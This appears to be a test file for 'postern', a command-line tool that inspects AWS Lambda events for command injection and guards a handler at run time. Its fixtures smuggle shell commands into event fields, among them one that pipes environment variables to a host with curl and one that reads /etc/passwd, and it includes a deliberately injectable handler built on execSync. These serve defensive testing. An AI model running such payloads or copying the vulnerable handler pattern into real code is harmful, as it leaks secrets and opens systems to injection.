import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';

// The shapes of docs/architecture.md §7, of the command line as it is installed: programs read them.

const cwd = mkdtempSync(join(tmpdir(), 'postern shapes '));
after(() => rmSync(cwd, { recursive: true }));
const bin = fileURLToPath(new URL('../bin/postern.mjs', import.meta.url));

interface Outcome {
  readonly code: number | null;
  readonly output: string;
  readonly errors: string;
}
function postern(...args: string[]): Outcome {
  const env = { PATH: process.env['PATH'] };
  const { status, stdout, stderr } = spawnSync(process.execPath, [bin, ...args], { cwd, env, encoding: 'utf8', timeout: 60_000 });
  return { code: status, output: stdout, errors: stderr };
}

type Fields = Readonly<Record<string, unknown>>;
/** Every name in `required` is there, and no name that is neither required nor optional. */
function hasShape(value: unknown, required: readonly string[], optional: readonly string[] = []): asserts value is Fields {
  assert.ok(typeof value === 'object' && value !== null && !Array.isArray(value), JSON.stringify(value));
  for (const name of required) assert.ok(Object.hasOwn(value, name), `lacks ${name}: ${JSON.stringify(value)}`);
  for (const name of Object.keys(value))
    assert.ok(required.includes(name) || optional.includes(name), `has ${name}, which is not documented`);
}

const sns = (message: string): object => ({ Records: [{ EventSource: 'aws:sns', EventVersion: '1.0', Sns: { Message: message } }] });
const kinesis = (data: string): object => ({
  Records: [{ eventSource: 'aws:kinesis', eventVersion: '1.0', kinesis: { data: gzipSync(data).toString('base64') } }],
});
const lines = [
  {
    event: sns(JSON.stringify({ email: 'foobar@some.site; env | curl -d @- http://127.0.0.1:9' })),
    expected: {
      trigger: 'aws:sns',
      level: 'certain',
      verdict: 'observe',
      class: 'cmdi',
      path: '$.Records[0].Sns.Message',
      encodings: ['json:$.email'],
    },
  },
  { event: sns(JSON.stringify({ email: 'foobar@some.site' })), expected: { trigger: 'aws:sns', level: 'none', verdict: 'allow' } },
  {
    event: kinesis(JSON.stringify({ cmd: 'x; cat /etc/passwd' })),
    expected: {
      trigger: 'aws:kinesis',
      level: 'certain',
      verdict: 'observe',
      class: 'cmdi',
      path: '$.Records[0].kinesis.data',
      encodings: ['base64', 'gzip', 'json:$.cmd'],
    },
  },
  { event: 'any JSON is an event', expected: { trigger: 'unknown', level: 'none', verdict: 'allow' } },
];
writeFileSync(join(cwd, 'events.jsonl'), lines.map(({ event }) => `${JSON.stringify(event)}\n`).join(''));
writeFileSync(join(cwd, 'attack.json'), JSON.stringify(lines[0]?.event));
writeFileSync(join(cwd, 'benign.json'), JSON.stringify(lines[1]?.event));

function hasInspectionShape(value: unknown): asserts value is Fields {
  hasShape(value, ['line', 'trigger', 'level', 'verdict', 'detections'], ['webhook', 'reason', 'incomplete', 'more']);
  assert.ok(Array.isArray(value['detections']));
  for (const detection of value['detections']) {
    hasShape(detection, ['class', 'cwe', 'path', 'encodings', 'span', 'evidence', 'confidence'], ['detector', 'capec', 'reason', 'hash']);
    const [start, end] = detection['span'] as [number, number];
    assert.ok(Number.isInteger(start) && Number.isInteger(end) && start < end, `${start}–${end}`);
    assert.ok((detection['cwe'] as unknown[]).every(Number.isInteger));
    assert.ok(['low', 'medium', 'high'].includes(detection['confidence'] as string));
  }
}

test('inspect --jsonl answers one line each', () => {
  const { code, output, errors } = postern('inspect', '--jsonl', 'events.jsonl');
  assert.equal(code, 1, errors);
  const answers = output.trimEnd().split('\n');
  assert.equal(answers.length, lines.length, output);
  answers.forEach((answer, i) => {
    const value: unknown = JSON.parse(answer);
    hasInspectionShape(value);
    const {
      class: attackClass,
      path,
      encodings,
      ...top
    } = { class: undefined, path: undefined, encodings: undefined, ...lines[i]?.expected };
    assert.equal(value['line'], i + 1);
    for (const [name, expected] of Object.entries(top)) assert.equal(value[name], expected, `line ${i + 1}, ${name}`);
    if (attackClass === undefined) return;
    const detections = value['detections'] as readonly Fields[];
    const found = detections.find((detection) => detection['class'] === attackClass && detection['path'] === path);
    assert.ok(found, answer);
    assert.deepEqual(found['encodings'], encodings);
  });
});

const inspected = [
  { file: 'attack.json', code: 1, verdict: 'observe' },
  { file: 'benign.json', code: 0, verdict: 'allow' },
];
for (const { file, code, verdict } of inspected)
  test(`inspect --format json of ${file}`, () => {
    const outcome = postern('inspect', file, '--format', 'json');
    assert.equal(outcome.code, code, outcome.errors);
    assert.match(outcome.output, new RegExp(`"verdict":\\s*"${verdict}"`));
    JSON.parse(outcome.output);
  });

writeFileSync(
  join(cwd, 'app.js'),
  `exports.handler = async (event) => {
    console.log('a line of the log');
    if (event.fail) throw new TypeError(event.fail);
    return { said: require('node:child_process').execSync('echo to ' + event.to).toString() };
  };`,
);
const attack = '{"to":"ann; echo stolen"}';

test('run prints the answer on standard output, everything else on standard error', () => {
  const { code, output, errors } = postern('run', 'app.handler', '--event', '{"to":"ann"}');
  assert.equal(output, '{"said":"to ann\\n"}\n');
  assert.match(errors, /a line of the log/);
  assert.equal(code, 0, errors);
});

const runs = [
  { name: 'benign, observe', event: '{"to":"ann"}', mode: 'observe', answer: 'response', findings: 0, code: 0 },
  { name: 'benign, block', event: '{"to":"ann"}', mode: 'block', answer: 'response', findings: 0, code: 0 },
  { name: 'an attack, off', event: attack, mode: 'off', answer: 'response', findings: 0, code: 0 },
  { name: 'an attack, observe', event: attack, mode: 'observe', answer: 'response', findings: 1, code: 1 },
  { name: 'an attack, block', event: attack, mode: 'block', answer: 'error', findings: 1, code: 1 },
  { name: 'a handler that throws', event: '{"fail":"no"}', mode: 'block', answer: 'error', findings: 0, code: 1 },
];
for (const { name, event, mode, answer, findings, code } of runs)
  test(`run --format json: ${name}`, () => {
    const outcome = postern('run', 'app.handler', '--event', event, '--mode', mode, '--format', 'json');
    assert.equal(outcome.code, code, outcome.errors);
    const value: unknown = JSON.parse(outcome.output);
    hasShape(value, [answer, 'effectiveMode', 'findings', 'records']);
    assert.equal(value['effectiveMode'], mode);
    const atSink = (value['findings'] as readonly Fields[]).filter((finding) => finding['ruleId'] === 'guard/command-injection');
    assert.equal(atSink.length, findings, outcome.output);
    for (const finding of value['findings'] as readonly unknown[]) {
      hasShape(
        finding,
        [
          'ruleId',
          'concept',
          'title',
          'sas',
          'cwe',
          'severity',
          'confidence',
          'message',
          'origin',
          'evidence',
          'remediation',
          'fingerprint',
        ],
        ['postern', 'kind', 'class', 'location', 'resource', 'function', 'flow', 'runtime'],
      );
      hasShape(finding['origin'], ['kind'], ['trail', 'sink', 'stack', 'trigger']);
    }
    for (const record of value['records'] as readonly Fields[]) assert.equal(record['postern'], 1);
    if (mode !== 'off') assert.ok((value['records'] as readonly Fields[]).some((record) => record['activity'] === 'start'));
    if (answer === 'error') hasShape(value['error'], ['errorType', 'errorMessage'], ['trace']);
  });

const mistakes = [
  { name: 'a file that does not exist', args: ['inspect', 'none.json'], errors: /none\.json/ },
  { name: 'a misspelt option', args: ['inspect', '--jsnl'], errors: /"--jsnl"/ },
  { name: 'an unknown mode', args: ['run', 'app.handler', '--mode', 'blok'], errors: /Did you mean "block"/ },
  {
    name: 'a mode that does not exist yet',
    args: ['run', 'app.handler', '--mode', 'learn'],
    errors: /not (?:there |exist )?yet|does not exist yet/,
  },
  { name: 'a handler that does not exist', args: ['run', 'none.handler'], errors: /none/ },
];
for (const { name, args, errors } of mistakes)
  test(`exit code 2, with a message and no stack: ${name}`, () => {
    const outcome = postern(...args);
    assert.equal(outcome.code, 2, outcome.errors);
    assert.match(outcome.errors, errors);
    assert.doesNotMatch(outcome.errors, /\n\s+at /);
    assert.equal(outcome.output, '');
  });
